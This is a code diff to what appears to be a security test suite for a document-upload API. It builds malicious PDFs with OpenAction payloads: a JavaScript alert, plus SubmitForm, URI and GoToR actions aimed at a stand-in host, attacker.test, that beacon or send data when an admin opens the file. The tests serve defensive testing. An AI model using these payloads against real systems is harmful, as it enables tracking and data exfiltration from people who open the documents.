@@ -18,14 +18,12 @@ const photoFromHome = (): Uint8Array<ArrayBuffer> => {
   return new Uint8Array(Buffer.concat([PIXEL.subarray(0, 2), segment, exif, PIXEL.subarray(2)]))
 }
 
-const scripted = (): Uint8Array<ArrayBuffer> => {
+/** Adds an action that runs when the document opens. */
+const pdfThatOpensWith = (action: string): Uint8Array<ArrayBuffer> => {
   const plain = Buffer.from(pdfFile('Liability insurance')).toString('latin1')
-  const withScript = plain.replace(
-    '/Type /Catalog',
-    '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
-  )
-  if (withScript === plain) throw new Error('the PDF has no catalog to add a script to')
-  return new Uint8Array(Buffer.from(withScript, 'latin1'))
+  const changed = plain.replace('/Type /Catalog', () => `/Type /Catalog /OpenAction << ${action} >>`)
+  if (changed === plain) throw new Error('the PDF has no catalog to add an action to')
+  return new Uint8Array(Buffer.from(changed, 'latin1'))
 }
 
 const settingUp = async (scene: Scene): Promise<Person> => {
@@ -68,7 +66,25 @@ export const fileAttacks: Attack[] = [
     wants: 'to run a script on the machine of the admin who opens a document',
     succeeds: async (scene) => {
       const { api } = await settingUp(scene)
-      return (await uploadDocument(api, 'liability_insurance', 'insurance.pdf', scripted())).ok
+      const file = pdfThatOpensWith('/S /JavaScript /JS (app.alert\\(1\\))')
+      return (await uploadDocument(api, 'liability_insurance', 'insurance.pdf', file)).ok
+    },
+  },
+  {
+    id: 'files/form-in-document',
+    wants: 'to learn when an admin opens a document, or to send data from it',
+    succeeds: async (scene) => {
+      const { api } = await settingUp(scene)
+      const unsafe = [
+        '/S /SubmitForm /F (https://attacker.test/form)',
+        '/S /URI /URI (https://attacker.test/opened)',
+        '/S /GoToR /F (//attacker.test/file.pdf) /D [0 /Fit]',
+      ]
+      for (const action of unsafe) {
+        const file = pdfThatOpensWith(action)
+        if ((await uploadDocument(api, 'liability_insurance', 'insurance.pdf', file)).ok) return true
+      }
+      return false
     },
   },
   {
